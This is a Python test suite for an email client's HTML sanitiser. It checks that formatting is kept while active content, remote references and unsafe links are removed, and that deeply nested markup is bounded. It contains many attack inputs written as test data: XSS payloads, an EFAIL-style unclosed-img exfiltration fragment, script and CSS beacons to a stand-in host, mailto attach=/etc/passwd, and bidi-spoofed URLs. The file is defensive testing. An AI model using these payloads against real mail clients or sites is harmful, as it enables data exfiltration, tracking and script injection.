"""HTML sanitising: formatting survives, active content and every remote reference do not."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PySide6.QtGui import QTextCursor, QTextDocument
from PySide6.QtWidgets import QApplication, QTextBrowser

from inbox_app.mail.html import sanitize_html


class _Attributes(HTMLParser):
    """Every (tag, attribute, value) of a fragment, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.extend((tag, name, value or "") for name, value in attrs)


def assert_nothing_remote(cleaned: str) -> None:
    """No tag or attribute left that makes a viewer fetch or run anything."""
    lowered = cleaned.lower()
    for tag in ("<script", "<style", "<base", "<meta", "<link", "<iframe", "<object",
                "<embed", "<svg", "<form", "<input", "<video", "<audio"):  # fmt: skip
        assert tag not in lowered
    assert "url(" not in lowered
    parser = _Attributes()
    parser.feed(cleaned)
    parser.close()
    for tag, name, value in parser.found:
        if name == "src":
            assert tag == "img"
            assert value.startswith("cid:"), value
        elif name == "href":
            assert tag == "a"
            assert value.startswith(("http://", "https://", "mailto:")), value
        else:
            assert name in {"alt", "style", "rel", "width", "height", "color",
                            "size", "align", "colspan", "border"}, name  # fmt: skip
            assert ":" not in value or name in {"style", "alt"}, value


def test_formatting_is_kept() -> None:
    html = (
        "<h1>Title</h1><p align='center'><b>bold</b> <i>it</i> <u>u</u></p>"
        "<blockquote>quoted</blockquote><ul><li>one</li></ul>"
        "<table border='1'><tr><td colspan='2'>cell</td></tr></table>"
        "<font color='#ff0000' size='+1'>red</font>"
        "<span style='color: red; font-weight: bold'>styled</span>"
    )
    cleaned = sanitize_html(html)
    expected = [
        "<h1>",
        "<b>bold</b>",
        "<blockquote>",
        "<li>",
        'colspan="2"',
        'color="#ff0000"',
        'size="+1"',
        'style="color: red; font-weight: bold"',
    ]
    for kept in expected:
        assert kept in cleaned


def test_cid_images_stay_and_remote_images_go() -> None:
    cleaned = sanitize_html(
        '<img src="cid:logo@example.com" alt="logo">'
        '<img src="http://evil.example/track.gif">'
        '<img src="https://evil.example/t.gif">'
        '<img src="//evil.example/t.gif">'
        '<img src="ftp://evil.example/t.gif">'
        '<img src="relative.png">'
        '<img src="file:///etc/passwd">'
        '<img src="data:image/png;base64,iVBORw0KGgo=">'
    )
    assert '<img src="cid:logo@example.com" alt="logo">' in cleaned
    assert "evil" not in cleaned
    assert "relative" not in cleaned
    assert "file:" not in cleaned
    assert "data:" not in cleaned
    assert_nothing_remote(cleaned)


def test_efail_unclosed_img_exfiltrates_nothing() -> None:
    # EFAIL direct exfiltration: the attacker's part opens an attribute that the
    # decrypted text would complete; the reader must not turn it into a request.
    html = '<img src="http://evil.example/?SECRET decrypted text follows</p><p>more'
    cleaned = sanitize_html(html)
    assert "evil" not in cleaned
    assert_nothing_remote(cleaned)


@pytest.mark.parametrize(
    "attack",
    [
        '<base href="http://evil.example/"><img src="cid:x">',
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
        '<link rel="stylesheet" href="http://evil.example/s.css">',
        "<style>body { background: url(http://evil.example/bg.png) }</style>",
        '<p style="background: url(http://evil.example/bg.png)">x</p>',
        '<p style="background-color: u\\72l(http://evil.example/)">x</p>',
        "<p style=\"color: red; background-image: url('http://evil.example/')\">x</p>",
        '<img srcset="http://evil.example/a.png 1x" src="cid:x">',
        '<table background="http://evil.example/t.png"><tr><td>x</td></tr></table>',
        '<body background="http://evil.example/b.png">x</body>',
        '<svg><image href="http://evil.example/s.png"/></svg>',
        '<svg><use xlink:href="http://evil.example/#a"/></svg>',
        "<script>fetch('http://evil.example/')</script>",
        '<iframe src="http://evil.example/"></iframe>',
        '<object data="http://evil.example/o.swf"></object>',
        '<embed src="http://evil.example/e.swf">',
        '<video poster="http://evil.example/p.png"></video>',
        '<audio src="http://evil.example/a.mp3"></audio>',
        '<form action="http://evil.example/"><input name="q"><button>Go</button></form>',
        '<img src="cid:x" onerror="fetch(\'http://evil.example/\')">',
        '<a href="javascript:alert(1)">click</a>',
        '<a href="jav&#x09;ascript:alert(1)">click</a>',
        '<a href="data:text/html,<script>alert(1)</script>">click</a>',
        "<!--[if IE]><img src='http://evil.example/ie.png'><![endif]-->",
        '<math><mi xlink:href="http://evil.example/">x</mi></math>',
        '<input type="image" src="http://evil.example/i.png">',
    ],
)
def test_attacks(attack: str) -> None:
    cleaned = sanitize_html(attack)
    assert "evil" not in cleaned
    assert "alert" not in cleaned
    assert_nothing_remote(cleaned)


def test_links_stay_as_text_links_only_for_safe_schemes() -> None:
    cleaned = sanitize_html(
        '<a href="https://example.com/doc">doc</a> <a href="mailto:bob@example.org">bob</a> '
        '<a href="//example.com/x">rel</a> <a href="#top">anchor</a>'
    )
    assert 'href="https://example.com/doc"' in cleaned
    assert 'href="mailto:bob@example.org"' in cleaned
    assert 'href="//example.com/x"' not in cleaned
    assert 'href="#top"' not in cleaned
    assert ">rel</a>" in cleaned


def test_style_keeps_only_plain_declarations() -> None:
    cleaned = sanitize_html(
        '<span style="color: rgb(255, 0, 0); position: fixed; font-size: 12pt; '
        'color: expression(alert(1)); text-align: center">x</span>'
    )
    assert 'style="color: rgb(255, 0, 0); font-size: 12pt; text-align: center"' in cleaned


def test_script_and_style_content_disappear() -> None:
    cleaned = sanitize_html(
        "<title>Secret title</title><script>var x = 1;</script><style>p{}</style><p>Hi</p>"
    )
    assert cleaned == "<p>Hi</p>"


# ---------------------------------------------------------------------------- UI from attributes


def test_title_never_becomes_a_tooltip(qapp: QApplication) -> None:
    # Qt turns title="..." into a tool tip and renders it as rich text.
    fake = "<b>Signature valid</b><img src=/tmp/a.png>"
    cleaned = sanitize_html(
        f'<p title="{fake}"><span title="{fake}">a</span> <a href="https://x.example/" '
        f'title="{fake}">b</a> <abbr title="{fake}">c</abbr> <img src="cid:x" alt="{fake}" '
        f'title="{fake}"></p><table title="{fake}"><tr><td title="{fake}">d</td></tr></table>'
    )
    assert "title" not in cleaned
    document = QTextDocument()
    document.setHtml(cleaned)
    cursor = QTextCursor(document)
    for position in range(document.characterCount()):
        cursor.setPosition(position)
        assert cursor.charFormat().toolTip() == ""


# ---------------------------------------------------------------------------- links


def _href(link: str) -> str | None:
    parser = _Attributes()
    parser.feed(sanitize_html(f'<a href="{link}">x</a>'))
    parser.close()
    return next((value for _tag, name, value in parser.found if name == "href"), None)


@pytest.mark.parametrize(
    ("link", "expected"),
    [
        ("https://example.com/a?b=c#d", "https://example.com/a?b=c#d"),
        ("HTTPS://Example.com/", "https://Example.com/"),
        ("https://bücher.example/straße", "https://xn--bcher-kva.example/stra%C3%9Fe"),
        ("http://example.com/ü?q=ä#ö", "http://example.com/%C3%BC?q=%C3%A4#%C3%B6"),
        ("http://user@example.com:8080/x", "http://user@example.com:8080/x"),
        ("http://[2001:db8::1]/x", "http://[2001:db8::1]/x"),
        ("http://example.com/%E2%80%AE", "http://example.com/%E2%80%AE"),  # encoded: shown so
        # Bidi, invisible and control characters: the link cannot be shown faithfully.
        ("http://evil.example/\u202egpj.exe", None),
        ("http://evil.example/\u200ex", None),
        ("http://evil\u2028.example/", None),
        ("http://evil.example/a\u00a0b", None),
        ("http://evil.example/\ufeff", None),
        # Not a usable absolute link.
        ("http:evil.example", None),
        ("http://", None),
        ("http://example.com:8o/", None),
        ("http://exa mple.com/", None),
        ("ftp://example.com/", None),
        # mailto: only subject, body and cc survive.
        ("mailto:bob@example.org", "mailto:bob@example.org"),
        (
            "mailto:bob@example.org?subject=Hi&body=Text&cc=c@example.org",
            "mailto:bob@example.org?subject=Hi&body=Text&cc=c@example.org",
        ),
        ("mailto:bob@example.org?body=hi&attach=/etc/passwd", "mailto:bob@example.org?body=hi"),
        (
            "mailto:bob@example.org?%61ttach=/etc/passwd&Subject=x",
            "mailto:bob@example.org?Subject=x",
        ),
        ("mailto:a@example.org?to=b@example.org&bcc=c@example.org", "mailto:a@example.org"),
        ("mailto:a@example.org?attachment=x&x-attach=y#frag", "mailto:a@example.org"),
        ("mailto:jösé@example.org?subject=ça", "mailto:j%C3%B6s%C3%A9@example.org?subject=%C3%A7a"),
    ],
)
def test_links_are_ascii_and_mailto_keeps_only_text_fields(link: str, expected: str | None) -> None:
    assert _href(link) == expected


@given(st.text(max_size=40))
def test_every_kept_link_is_printable_ascii(tail: str) -> None:
    for scheme in ("http://example.com/", "mailto:a@example.org?"):
        href = _href(scheme + tail.replace('"', ""))
        assert href is None or (href.isascii() and href.isprintable() and " " not in href)


# ---------------------------------------------------------------------------- nesting

_VOID = frozenset({"br", "col", "hr", "img"})


class _Shape(HTMLParser):
    """The deepest element nesting and table nesting of a fragment, and its words."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.max_depth = 0
        self.max_tables = 0
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _VOID:
            self.open.append(tag)
            self.max_depth = max(self.max_depth, len(self.open))
            self.max_tables = max(self.max_tables, self.open.count("table"))

    def handle_endtag(self, tag: str) -> None:
        assert self.open
        assert self.open[-1] == tag, (self.open[-3:], tag)
        self.open.pop()

    def handle_data(self, data: str) -> None:
        self.words.extend(data.split())


def shape_of(fragment: str) -> _Shape:
    shape = _Shape()
    shape.feed(fragment)
    shape.close()
    assert not shape.open  # balanced
    return shape


_OPENERS = {
    "tables": "<table><tr><td>",
    "lists": "<ul><li>",
    "ordered": "<ol><li>",
    "definitions": "<dl><dd>",
    "quotes": "<blockquote>",
    "divs": "<div>",
    "spans": "<span>",
    "mixed": "<table><tr><td><ul><li><blockquote><div><dl><dd><font size=2><b>",
    "table-in-div": "<div><table><tbody><tr><th><p>",
}
_CLOSERS = {
    name: "".join(f"</{tag}>" for tag in reversed(re.findall(r"<(\w+)", opener)))
    for name, opener in _OPENERS.items()
}


@pytest.mark.parametrize("closed", [False, True], ids=["unclosed", "closed"])
def test_adversarial_nesting_lays_out_quickly(qapp: QApplication, closed: bool) -> None:
    # Before bounding, 20 nested tables took 8 s to lay out and 3000 crashed the reader.
    browser = QTextBrowser()
    layout_seconds = 0.0
    for name, opener in _OPENERS.items():
        for levels in (30, 3000):
            html = opener * levels + "deepest" + (_CLOSERS[name] * levels if closed else "")
            started = time.perf_counter()
            cleaned = sanitize_html(html)
            assert time.perf_counter() - started < 3, (name, levels)  # the worker's share
            shape = shape_of(cleaned)
            assert shape.max_depth <= 32, (name, levels)
            assert shape.max_tables <= 5, (name, levels)
            assert "deepest" in shape.words
            started = time.perf_counter()
            browser.setHtml(cleaned)
            browser.document().setTextWidth(600)
            assert browser.document().size().height() > 0
            layout_seconds += time.perf_counter() - started
    assert layout_seconds < 1.0


def test_much_content_inside_nested_tables_lays_out_in_bounded_time(qapp: QApplication) -> None:
    # Layout time doubles per table level for everything inside: the more a message holds,
    # the fewer table levels it keeps.
    html = "<table><tr><td>" * 5 + "<p>Some words of a paragraph.</p>" * 6000
    cleaned = sanitize_html(html)
    assert shape_of(cleaned).max_tables < 5
    browser = QTextBrowser()
    started = time.perf_counter()
    browser.setHtml(cleaned)
    browser.document().setTextWidth(600)
    browser.document().size()
    assert time.perf_counter() - started < 2.0


def test_newsletter_tables_are_left_as_they_are() -> None:
    # Four nested layout tables, as newsletter templates use them: nothing is flattened.
    inner = "".join(
        f'<tr><td align="left" width="50%"><p>Item {i}</p></td><td>{i}</td></tr>' for i in range(50)
    )
    html = (
        '<table width="100%"><tr><td align="center">'
        '<table width="600" border="0"><tr><td>'
        "<table><tr><td><h1>News</h1>"
        f"<table>{inner}</table>"
        "</td></tr></table></td></tr></table></td></tr></table>"
    )
    cleaned = sanitize_html(html)
    assert cleaned.count("<table") == 4
    assert cleaned.count("<td") == 103
    assert '<td align="left" width="50%"><p>Item 49</p></td>' in cleaned
    assert "<div>" not in cleaned


def test_tables_beyond_five_levels_become_blocks() -> None:
    html = "".join(f"<table><tr><td>level {i}</td><td>side {i} " for i in range(8))
    cleaned = sanitize_html(html)
    shape = shape_of(cleaned)
    assert shape.max_tables == 5
    assert cleaned.count("<table") == 5
    assert "<div>level 5</div>" in cleaned  # a cell of the sixth table is a block
    assert "<div>side 7 </div>" in cleaned
    words = " ".join(shape.words)
    assert all(f"level {i}" in words and f"side {i}" in words for i in range(8))


def test_deep_blocks_keep_their_text_apart() -> None:
    html = "<div>" * 40 + "".join(f"<p>para {i}</p>" for i in range(3)) + "</div>" * 40
    cleaned = sanitize_html(html)
    assert shape_of(cleaned).max_depth <= 32
    assert "para 0<br>para 1<br>para 2" in cleaned


_BLOCK = st.sampled_from(
    [
        ("<table><tr><td>", "</td></tr></table>"),
        ("<table><tr><th>", "</th><td>cell</td></tr></table>"),
        ("<ul><li>", "</li></ul>"),
        ("<ol><li>", "</li><li>next</li></ol>"),
        ("<dl><dt>term</dt><dd>", "</dd></dl>"),
        ("<blockquote>", "</blockquote>"),
        ("<div>", "</div>"),
        ("<span>", "</span>"),
        ("<b>", "</b>"),
        ("<font color=red>", "</font>"),
        ("<p>", "</p>"),
        ("<center>", "</center>"),
    ]
)


@given(st.lists(_BLOCK, max_size=150))
def test_depth_is_bounded_and_no_word_is_lost(levels: list[tuple[str, str]]) -> None:
    html = "core"
    for index, (opener, closer) in enumerate(levels):
        html = f"a{index} {opener}{html}{closer} z{index}"
    cleaned = sanitize_html(html)
    shape = shape_of(cleaned)
    assert shape.max_depth <= 32
    assert shape.max_tables <= 5
    assert shape.words == shape_of(html).words


# ---------------------------------------------------------------------------- too many tags


def test_a_document_with_too_many_tags_is_shown_as_text() -> None:
    html = (
        "<html><head><title>T</title><style>p { color: red }</style></head><body>"
        + "<ol><li><div>" * 40_000
        + "Dear reader, 1 &lt; 2 &amp; <b>bold</b><script>alert(1)</script><!-- <hidden> -->"
        + "<p>Second paragraph</p>"
    )
    started = time.perf_counter()
    cleaned = sanitize_html(html)
    assert time.perf_counter() - started < 2
    assert "too complex" in cleaned
    assert "Dear reader, 1 &lt; 2 &amp; bold" in cleaned
    assert "Second paragraph" in cleaned
    for hidden in ("alert", "color: red", "hidden", "<b>", "<li>", "<ol>"):
        assert hidden not in cleaned
    assert shape_of(cleaned).max_depth <= 2


def test_too_many_tags_prefers_the_plain_text_alternative() -> None:
    cleaned = sanitize_html("<div>" * 30_000, text_alternative="Plain <b>words</b>\n\nand more")
    assert "<p>Plain &lt;b&gt;words&lt;/b&gt;</p><p>and more</p>" in cleaned
